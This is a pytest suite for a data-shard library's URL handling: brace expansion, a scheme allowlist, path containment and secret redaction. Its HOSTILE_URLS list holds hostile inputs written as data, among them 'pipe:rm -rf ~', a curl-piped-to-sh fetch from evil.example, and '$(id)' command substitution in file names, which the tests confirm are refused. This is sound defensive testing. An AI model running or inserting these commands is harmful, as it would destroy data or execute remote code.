"""Tests for shards.storage.patterns: brace expansion, the scheme allowlist, redaction (D1-D4)."""

from __future__ import annotations

import os

import pytest

from shards.formats import format_of_url
from shards.redact import redact_url
from shards.storage import validate_url
from shards.storage.patterns import expand_urls

HOSTILE_URLS = [
    "pipe:rm -rf ~",
    "pipe:curl -s http://evil.example/x | sh",
    "PIPE:ls",
    "ftp://example.com/a.tar",
    "hf://datasets/x/a.tar",
    "ais://bucket/a.tar",
    "data:text/plain,hello",
    "javascript:alert(1)",
    "gopher://example.com/a.tar",
    "a.tar::b.tar",
    "simplecache::s3://bucket/a.tar",
    "shard\x00.tar",
    "shard.tar\nrm -rf ~",
    "https://example.com/a.tar\r\nX-Injected: 1",
    " pipe:ls",
    "https://example.com/`id`.tar",
    "https://example.com/$(id).tar",
    "https://example.com/a b.tar",
    "https://example.com/${HOME}.tar",
    "s3://bucket/$(id).tar",
    "https:///no-host.tar",
    "https://example.com:99999/a.tar",
    "",
]


@pytest.fixture
def in_tmp(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    return tmp_path


def test_range_keeps_zero_padding(in_tmp):
    urls = expand_urls("train-{000000..000127}.tar")
    assert len(urls) == 128
    assert urls[0] == str(in_tmp / "train-000000.tar")
    assert urls[-1] == str(in_tmp / "train-000127.tar")


@pytest.mark.parametrize(
    ("pattern", "expected"),
    [
        ("https://h/{0..3}.tar", ["0", "1", "2", "3"]),
        ("https://h/{8..10}.tar", ["8", "9", "10"]),
        ("https://h/{008..010}.tar", ["008", "009", "010"]),
        ("https://h/{1..010}.tar", ["001", "002", "003", "004", "005"]),
        ("https://h/{3..1}.tar", ["3", "2", "1"]),
        ("https://h/{a,b,c}.tar", ["a", "b", "c"]),
        ("https://h/{x,y}-{0..1}.tar", ["x-0", "x-1", "y-0", "y-1"]),
    ],
)
def test_brace_patterns(pattern, expected):
    urls = expand_urls(pattern)
    assert [url.removeprefix("https://h/").removesuffix(".tar") for url in urls[:5]] == expected


def test_path_objects_are_accepted(in_tmp):
    assert expand_urls(in_tmp / "a.tar") == [str(in_tmp / "a.tar")]
    assert expand_urls([in_tmp / "b-{0..1}.tar"]) == [str(in_tmp / f"b-{i}.tar") for i in (0, 1)]


def test_list_of_patterns_keeps_order(in_tmp):
    urls = expand_urls(["b-{0..1}.tar", "https://h/a.tar", f"file://{in_tmp}/c.tar"])
    assert urls == [
        str(in_tmp / "b-0.tar"),
        str(in_tmp / "b-1.tar"),
        "https://h/a.tar",
        str(in_tmp / "c.tar"),
    ]


def test_huge_range_is_refused_before_allocation():
    # Generating 10**12 strings would exhaust memory; pytest-timeout catches a hang.
    with pytest.raises(ValueError, match="1000000000000 URLs"):
        expand_urls("https://h/train-{0..999999999999}.tar")
    with pytest.raises(ValueError, match="max_shards"):
        expand_urls("https://h/{000000..999999999}.tar")


def test_cap_counts_products_and_lists():
    assert len(expand_urls("https://h/{0..9}.tar", max_shards=10)) == 10
    with pytest.raises(ValueError, match="11 URLs"):
        expand_urls("https://h/{0..10}.tar", max_shards=10)
    with pytest.raises(ValueError, match="10000 URLs"):
        expand_urls("https://h/{0..99}-{0..99}.tar", max_shards=1000)
    with pytest.raises(ValueError, match="12 URLs"):
        expand_urls(["https://h/a{0..5}.tar", "https://h/b{0..5}.tar"], max_shards=11)


@pytest.mark.parametrize("source", [[], ()])
def test_zero_urls_is_an_error(source):
    with pytest.raises(ValueError, match="no shard URLs"):
        expand_urls(source)


@pytest.mark.parametrize(
    ("source", "duplicate"),
    [
        (["a.tar", "./a.tar"], "a.tar"),
        ("{a,a}.tar", "a.tar"),
        (["https://h/{0..2}.tar", "https://h/1.tar"], "https://h/1.tar"),
        (["x/../b.tar", "b.tar"], "b.tar"),
    ],
)
def test_duplicates_are_named(in_tmp, source, duplicate):
    with pytest.raises(ValueError, match="duplicate") as info:
        expand_urls(source)
    assert duplicate in str(info.value)


def test_file_url_duplicates_local_path(in_tmp):
    with pytest.raises(ValueError, match="duplicate"):
        expand_urls(["c.tar", f"file://{in_tmp}/c.tar"])


@pytest.mark.parametrize(
    ("pattern", "message"),
    [
        ("https://h/{a,{b,c}}.tar", "nested"),
        ("https://h/{0..3.tar", "unbalanced"),
        ("https://h/0..3}.tar", "unbalanced"),
        ("https://h/{a..z}.tar", "malformed range"),
        ("https://h/{-1..3}.tar", "malformed range"),
    ],
)
def test_malformed_patterns(pattern, message):
    with pytest.raises(ValueError, match=message):
        expand_urls(pattern)


def test_env_vars_and_tilde_stay_literal(in_tmp, monkeypatch):
    monkeypatch.setenv("SHARD_SECRET", "leaked")
    urls = expand_urls(["${HOME}.tar", "$SHARD_SECRET.tar", "${SHARD_SECRET}.tar", "~/x.tar"])
    assert urls == [
        str(in_tmp / "${HOME}.tar"),
        str(in_tmp / "$SHARD_SECRET.tar"),
        str(in_tmp / "${SHARD_SECRET}.tar"),
        str(in_tmp / "~" / "x.tar"),
    ]
    assert not any("leaked" in url or os.environ["HOME"] in url for url in urls)


def test_relative_absolute_and_file_urls(in_tmp):
    assert validate_url("sub/a.tar") == str(in_tmp / "sub" / "a.tar")
    assert validate_url("/data/../data/a.tar") == "/data/a.tar"
    assert validate_url("file:///data/a.tar") == "/data/a.tar"
    assert validate_url("file://localhost/data/a.tar") == "/data/a.tar"
    assert validate_url("file:///data/a%20b.tar") == "/data/a b.tar"
    assert validate_url("./x:y.tar") == str(in_tmp / "x:y.tar")


@pytest.mark.parametrize(
    ("url", "message"),
    [
        ("file://otherhost/data/a.tar", "remote host"),
        ("file:a.tar", "absolute path"),
        ("file:///a.tar?x=1", "query"),
    ],
)
def test_bad_file_urls(url, message):
    with pytest.raises(ValueError, match=message):
        validate_url(url)


def test_remote_urls_pass_unchanged():
    for url in [
        "https://example.com/a.tar",
        "http://127.0.0.1:8080/dir/a.tar?X-Amz-Signature=abc;x=$1&q='ok'",
        "s3://bucket/prefix/a b.parquet",
        "gs://bucket/a.tar",
        "https://[::1]:8443/a.tar",
    ]:
        assert validate_url(url) == url


@pytest.mark.parametrize("url", HOSTILE_URLS)
def test_hostile_urls_are_refused(url):
    with pytest.raises(ValueError):
        validate_url(url)
    with pytest.raises(ValueError):
        expand_urls([url])


def test_scheme_error_says_what_is_allowed():
    with pytest.raises(ValueError, match="scheme not allowed") as info:
        validate_url("pipe:rm -rf ~")
    assert "https://" in str(info.value) and "local paths" in str(info.value)


def test_scheme_in_pattern_is_checked_before_expansion():
    with pytest.raises(ValueError, match="scheme not allowed"):
        expand_urls("pipe:{0..999999999999}")
    with pytest.raises(ValueError, match="scheme not allowed"):
        expand_urls("{https,pipe}://h/a.tar")


def test_schemes_can_be_narrowed():
    assert validate_url("https://h/a.tar", schemes={"https"}) == "https://h/a.tar"
    assert expand_urls("{http,https}://h/a.tar", schemes={"http", "https"}) == [
        "http://h/a.tar",
        "https://h/a.tar",
    ]
    for url in ["gs://bucket/a.tar", "http://h/a.tar", "a.tar"]:
        with pytest.raises(ValueError, match="scheme not allowed"):
            validate_url(url, schemes={"https", "s3"})


def test_data_root_containment(tmp_path):
    root = tmp_path / "root"
    (root / "sub").mkdir(parents=True)
    outside = tmp_path / "outside.tar"
    outside.write_bytes(b"")
    (root / "link.tar").symlink_to(outside)
    assert validate_url(str(root / "sub" / "a.tar"), data_root=root) == str(root / "sub" / "a.tar")
    for url in [
        str(outside),
        f"{root}/../outside.tar",
        f"file://{outside}",
        str(root / "link.tar"),
    ]:
        with pytest.raises(ValueError, match="outside data root"):
            validate_url(url, data_root=root)
    with pytest.raises(ValueError, match="outside data root"):
        expand_urls([str(root / "sub" / "a.tar"), str(outside)], data_root=root)


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://alice:pw123@h/a.tar", "https://***@h/a.tar"),
        ("https://alice:p@ss@h/a.tar", "https://***@h/a.tar"),
        (
            "https://h/a.tar?X-Amz-Signature=abc&part=1&X-Amz-Credential=AKIA%2F1",
            "https://h/a.tar?X-Amz-Signature=REDACTED&part=1&X-Amz-Credential=REDACTED",
        ),
        (
            "https://h/a.tar?x-amz-security-token=t&sig=s&token=u&access_token=v#frag",
            "https://h/a.tar?x-amz-security-token=REDACTED&sig=REDACTED&token=REDACTED"
            "&access_token=REDACTED#frag",
        ),
        ("s3://KEY:SECRET@bucket/a.tar", "s3://***@bucket/a.tar"),
        ("/data/user:pw@x.tar", "/data/user:pw@x.tar"),
        ("https://h/a.tar", "https://h/a.tar"),
        ("http://[::1", "http://[::1"),
    ],
)
def test_redact_url(url, expected):
    assert redact_url(url) == expected


# Hostile redaction table (issue 29): each URL, the secrets that must never show, and
# what must stay readable. The first six are the findings.
REDACTION_CASES = [
    ("https://h/a.tar?access_key=AKIAHIDDEN1&part=3", ["AKIAHIDDEN1"], ["part=3"]),
    ("https://h/a.tar?private_key=PKHIDDEN2", ["PKHIDDEN2"], ["a.tar"]),
    ("https://h/a.tar?a=1;token=TOKHIDDEN3", ["TOKHIDDEN3"], ["a=1"]),
    ("https://h/a.tar?sign=SIGNHIDDEN4&v=2", ["SIGNHIDDEN4"], ["v=2"]),
    ("https://h/a.tar?pwd=PWDHIDDEN5", ["PWDHIDDEN5"], []),
    ("https://h/a.tar#access_token=FRAGHIDDEN6&token_type=bearer", ["FRAGHIDDEN6"], []),
    ("https://u:PASSHIDDEN7@h/a.tar", ["PASSHIDDEN7", "u:"], ["@h/a.tar"]),
    ("https://GHTOKENHIDDEN8@h/a.tar", ["GHTOKENHIDDEN8"], ["@h/a.tar"]),
    ("https://h/a.tar?X-Goog-Signature=GOOGHIDDEN9&X-Goog-Date=1", ["GOOGHIDDEN9"], ["Date=1"]),
    ("https://h/a.tar?sv=2024&sig=AZSIGHIDDEN10&se=2030", ["AZSIGHIDDEN10"], ["sv=2024"]),
    (
        "https://h/a.tar?Key-Pair-Id=KPHIDDEN11&Signature=CFSIGHIDDEN12",
        ["KPHIDDEN11", "CFSIGHIDDEN12"],
        [],
    ),
    ("https://h/a.tar?apiKey=APIHIDDEN13", ["APIHIDDEN13"], []),
    ("https://h/a.tar?API-KEY=APIHIDDEN14", ["APIHIDDEN14"], []),
    ("https://h/a.tar?client_secret=CSHIDDEN15&client_id=app", ["CSHIDDEN15"], ["client_id=app"]),
    ("https://h/a.tar?password=PWHIDDEN16", ["PWHIDDEN16"], []),
    ("https://h/a.tar?passwd=PWHIDDEN17", ["PWHIDDEN17"], []),
    ("https://h/a.tar?session_id=SESSHIDDEN18", ["SESSHIDDEN18"], []),
    ("https://h/a.tar;jsessionid=JSESSHIDDEN19", ["JSESSHIDDEN19"], ["a.tar"]),
    ("https://h/a.tar?auth=AUTHHIDDEN20", ["AUTHHIDDEN20"], []),
    ("https://h/a.tar?Authorization=Bearer%20AUTHHIDDEN21", ["AUTHHIDDEN21"], []),
    (
        "https://h/a.tar?oauth_signature=OSIGHIDDEN22&oauth_nonce=NONCEHIDDEN23",
        ["OSIGHIDDEN22", "NONCEHIDDEN23"],
        [],
    ),
    ("https://h/a.tar?code=CODEHIDDEN24&state=s", ["CODEHIDDEN24"], ["state=s"]),
    ("https://h/a.tar?%74oken=PCTHIDDEN25", ["PCTHIDDEN25"], []),
    ("https://h/a.tar?TOKEN=UPPERHIDDEN26", ["UPPERHIDDEN26"], []),
    ("https://h/a.tar?credentials=CREDHIDDEN27", ["CREDHIDDEN27"], []),
    ("https://h/a.tar#/cb?id_token=ROUTEHIDDEN28", ["ROUTEHIDDEN28"], []),
    ("https://h/a.tar?next=https://x/?token=NESTHIDDEN29", ["NESTHIDDEN29"], []),
    (
        "https://h/a.tar?jwt=JWTHIDDEN30&x=1;session=SESSHIDDEN31",
        ["JWTHIDDEN30", "SESSHIDDEN31"],
        ["x=1"],
    ),
    ("HTTPS://U:UPSCHEMEHIDDEN32@h/a.tar?Sig=SIGHIDDEN33", ["UPSCHEMEHIDDEN32", "SIGHIDDEN33"], []),
    ("https://h/a.tar?x-amz-security-token=STSHIDDEN34==&part=1", ["STSHIDDEN34"], ["part=1"]),
    ("https://h/data/key=abc/a.tar?v=1", [], ["key=abc", "v=1"]),  # a partition folder
]


@pytest.mark.parametrize(("url", "secrets", "kept"), REDACTION_CASES)
def test_redact_url_hides_every_secret_parameter_by_its_name(url, secrets, kept):
    shown = redact_url(url)
    assert not [secret for secret in secrets if secret in shown], shown
    assert all(part in shown for part in kept), shown
    assert redact_url(shown) == shown  # redacting twice changes nothing


def test_errors_never_show_secrets():
    url = "ftp://alice:pw123@h/a.tar?X-Amz-Signature=deadbeef"
    with pytest.raises(ValueError) as info:
        validate_url(url)
    assert "pw123" not in str(info.value) and "deadbeef" not in str(info.value)
    with pytest.raises(ValueError) as info:
        expand_urls(["https://alice:pw123@h/a.tar?sig=deadbeef"] * 2)
    assert "pw123" not in str(info.value) and "deadbeef" not in str(info.value)


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("/data/a.tar", "tar"),
        ("/data/A.TAR", "tar"),
        ("https://h/a.parquet?X-Amz-Signature=x.tar", "parquet"),
        ("s3://b/dir.tar/a.parquet", "parquet"),
        ("https://h/a.tar#frag", "tar"),
    ],
)
def test_format_of_url(url, expected):
    assert format_of_url(url).name == expected


@pytest.mark.parametrize("url", ["/data/a.tar.gz", "/data/a", "https://h/a.zip?x=.tar"])
def test_format_of_url_refuses_others(url):
    with pytest.raises(ValueError, match="format"):
        format_of_url(url)


@pytest.mark.parametrize(
    "url",
    [
        "s3://AKIAEXAMPLE:s3cr3tKEY@bucket/train-000000.tar",
        "s3://AKIAEXAMPLE@bucket/train-000000.tar",  # a key alone is a credential too
        "gs://svc:s3cr3tKEY@bucket/train-000000.tar",
        "S3://AKIAEXAMPLE:s3cr3tKEY@bucket/a.tar",
    ],
)
def test_object_store_urls_with_credentials_are_refused_redacted(url):
    """`s3://KEY:SECRET@bucket` would reach s3fs as a bucket name, which it logs."""
    for check in (validate_url, expand_urls):
        with pytest.raises(ValueError) as info:
            check(url)
        text = str(info.value)
        assert "s3cr3tKEY" not in text and "AKIAEXAMPLE" not in text and "svc" not in text
        assert "***@bucket" in text and "storage_options" in text and "credential chain" in text
    with pytest.raises(ValueError, match="holds credentials"):  # inside a brace pattern too
        expand_urls(url.replace("a.tar", "{0..3}.tar").replace("000000", "{000..003}"))


def test_http_credentials_stay_basic_auth_and_azure_containers_stay_legal():
    assert validate_url("https://alice:pw@h/a.tar") == "https://alice:pw@h/a.tar"
    from shards.storage import credentials_problem

    # Each store's credential shape (`Transport.credentials`) decides what is a secret.
    assert credentials_problem("abfs://container@account.dfs.core.windows.net/a.tar") is None
    assert "***@account" in credentials_problem("abfs://container:key@account/a.tar")
    assert credentials_problem("s3://bucket/key@2x.tar") is None  # '@' in the key is fine
    assert credentials_problem("/data/user:pw@x.tar") is None
    assert credentials_problem("https://alice:pw@h/a.tar") is None


# --- globs: local paths only, after the braces ----------------------------------------------


def touch_shards(folder, names):
    for name in names:
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(b"")


def test_a_local_glob_expands_sorted_and_recursive_with_two_stars(tmp_path):
    touch_shards(tmp_path, ["b.tar", "a.tar", "c.parquet", "sub/d.tar", "notes.txt"])
    assert expand_urls(str(tmp_path / "*.tar")) == [
        str(tmp_path / "a.tar"),
        str(tmp_path / "b.tar"),
    ]
    assert expand_urls(str(tmp_path / "**/*.tar")) == [
        str(tmp_path / name) for name in ("a.tar", "b.tar", "sub/d.tar")
    ]
    both = expand_urls(str(tmp_path / "{a,b}*.tar"))  # braces first, then each glob
    assert both == [str(tmp_path / "a.tar"), str(tmp_path / "b.tar")]


def test_a_glob_that_matches_nothing_is_an_error_naming_it(tmp_path):
    with pytest.raises(ValueError, match=r"no file matches .*\*\.tar"):
        expand_urls(str(tmp_path / "*.tar"))


def test_an_existing_name_with_glob_characters_is_taken_as_written(tmp_path):
    touch_shards(tmp_path, ["odd[1].tar", "odd1.tar"])
    assert expand_urls(str(tmp_path / "odd[1].tar")) == [str(tmp_path / "odd[1].tar")]


def test_remote_urls_are_never_globbed():
    assert expand_urls("https://example.com/shards/*.tar") == ["https://example.com/shards/*.tar"]
